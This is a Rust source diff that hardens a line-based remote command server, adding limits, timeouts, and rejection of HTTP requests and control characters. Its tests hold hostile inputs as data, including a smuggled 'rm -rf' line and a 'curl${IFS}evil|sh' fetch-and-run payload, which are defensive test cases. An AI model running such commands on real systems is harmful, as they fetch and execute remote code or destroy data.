@@ -15,6 +15,9 @@ use tokio_util::sync::CancellationToken;
 
 /// Longest line a client may send.
 const MAX_LINE: usize = 1024;
+/// Most bytes kept from a client that writes while its command runs; past it the connection
+/// is closed.
+const MAX_PENDING: usize = 2 * MAX_LINE;
 /// Chunks of a file download.
 const CHUNK: usize = 256 * 1024;
 /// The MD5 sent after an error answer to `get`: it matches no content, so the client's own
@@ -80,6 +83,10 @@ impl Conn {
                 Line::Get(name) => self.get(core, actor, name).await,
                 Line::Command(cmd) => self.command(core, actor, cmd).await,
                 Line::Bad(why) => self.reply(why.as_bytes()).await,
+                Line::Http => {
+                    tracing::warn!(peer = %actor.peer, "an HTTP request on the legacy port: closed without running it");
+                    return "http request refused";
+                }
             };
             if done.is_err() {
                 return "closed by peer";
@@ -89,6 +96,17 @@ impl Conn {
 
     /// The next line: bytes that came early, or one read. `None` after the idle timeout.
     async fn next_line(&mut self) -> Result<Option<Vec<u8>>, Closed> {
+        loop {
+            let line = self.read_line().await?;
+            // An acknowledgement that came too late for its answer is not a command.
+            match (&self.ack, &line) {
+                (Ack::Sends(known), Some(l)) if l == known => continue,
+                _ => return Ok(line),
+            }
+        }
+    }
+
+    async fn read_line(&mut self) -> Result<Option<Vec<u8>>, Closed> {
         if !self.pending.is_empty() {
             return Ok(Some(std::mem::take(&mut self.pending)));
         }
@@ -134,14 +152,19 @@ impl Conn {
                             Ok(0) | Err(_) => return Err(Closed),
                             Ok(n) => {
                                 self.counters.add_in(n as u64);
+                                if self.pending.len() + n > MAX_PENDING {
+                                    return Err(Closed);
+                                }
                                 self.pending.extend_from_slice(&early[..n]);
                             }
                         },
                     }
                 };
                 if outcome.truncated {
+                    let cap = core.exec.limits().max_output.min(BUFFERED_OUTPUT);
                     out.extend_from_slice(
-                        format!("\nferry: output cut at {BUFFERED_OUTPUT} bytes\n").as_bytes(),
+                        format!("\nferry: output cut at {cap} bytes (stdout and stderr)\n")
+                            .as_bytes(),
                     );
                 }
                 if let Some(e) = &outcome.error {
@@ -162,7 +185,10 @@ impl Conn {
         let r = match core.files.get(actor, name, 0, CHUNK).await {
             Err(e) => self.reply(&failure(&e)).await.map(|_| NO_MD5.to_vec()),
             Ok(mut g) => {
-                self.length(g.header.size).await?;
+                if self.length(g.header.size).await.is_err() {
+                    g.abort(true).await;
+                    return Err(Closed);
+                }
                 loop {
                     match g.next_chunk().await {
                         Ok(Some(b)) => {
@@ -214,9 +240,11 @@ impl Conn {
     /// sends none: the answer goes on, in a segment of its own after that wait.
     async fn await_ack(&mut self) -> Result<(), Closed> {
         if !self.pending.is_empty() {
-            // Sent before the length came: it can only be the acknowledgement.
+            // Sent before the length came: it can only be the acknowledgement. The client may
+            // not have read the length yet, so the data still waits, as for a silent client.
             let got = std::mem::take(&mut self.pending);
             self.learn(&got);
+            tokio::time::sleep(self.cfg.ack_wait).await;
             return Ok(());
         }
         let wait = match self.ack {
@@ -251,8 +279,12 @@ impl Conn {
         }
     }
 
+    /// Writes `bytes`; a client that takes none of them for the idle timeout is gone.
     async fn send(&mut self, bytes: &[u8]) -> Result<(), Closed> {
-        self.sock.write_all(bytes).await.map_err(|_| Closed)?;
+        match tokio::time::timeout(self.cfg.idle_timeout, self.sock.write_all(bytes)).await {
+            Ok(Ok(())) => {}
+            _ => return Err(Closed),
+        }
         self.counters.add_out(bytes.len() as u64);
         Ok(())
     }
@@ -267,6 +299,21 @@ enum Line<'a> {
     Command(&'a str),
     /// A line that cannot be run, with the answer that says why.
     Bad(String),
+    /// An HTTP request (a browser sent to this port by a web page): never run; the
+    /// connection is closed.
+    Http,
+}
+
+/// Whether `text` starts like an HTTP request: `METHOD TARGET HTTP/`.
+fn looks_like_http(text: &str) -> bool {
+    let first = text.lines().next().unwrap_or("");
+    let mut parts = first.split(' ');
+    let method = parts.next().unwrap_or("");
+    let _target = parts.next();
+    let version = parts.next().unwrap_or("");
+    !method.is_empty()
+        && method.bytes().all(|b| b.is_ascii_uppercase())
+        && version.starts_with("HTTP/")
 }
 
 /// Reads a line: UTF-8, at most 1024 bytes, surrounding blanks and a line end ignored.
@@ -277,6 +324,14 @@ fn parse(raw: &[u8]) -> Line<'_> {
     let Ok(text) = std::str::from_utf8(raw) else {
         return Line::Bad("ferry: the line is not UTF-8 text\n".into());
     };
+    let text = text.strip_suffix('\n').unwrap_or(text);
+    let text = text.strip_suffix('\r').unwrap_or(text);
+    if looks_like_http(text) {
+        return Line::Http;
+    }
+    if text.chars().any(|c| c.is_control() && c != '\t') {
+        return Line::Bad("ferry: the line holds control characters (one line per write)\n".into());
+    }
     let text = text.trim();
     if text.is_empty() {
         return Line::Bad("ferry: empty line\n".into());
@@ -306,5 +361,14 @@ mod tests {
         assert!(matches!(parse(b"  \n"), Line::Bad(_)));
         assert!(matches!(parse(&[0xff, 0xfe]), Line::Bad(_)));
         assert!(matches!(parse(&[b'x'; 1025]), Line::Bad(_)));
+        assert!(matches!(parse(b"echo a\nrm -rf x"), Line::Bad(_)));
+        assert!(matches!(parse(b"echo \x1b[2J"), Line::Bad(_)));
+        assert_eq!(parse(b"printf 'a\tb'"), Line::Command("printf 'a\tb'"));
+        assert_eq!(
+            parse(b"GET /;curl${IFS}evil|sh; HTTP/1.1\r\nHost: x\r\n\r\n"),
+            Line::Http
+        );
+        assert_eq!(parse(b"POST /x HTTP/1.0\r\n"), Line::Http);
+        assert_eq!(parse(b"GET x"), Line::Command("GET x"));
     }
 }
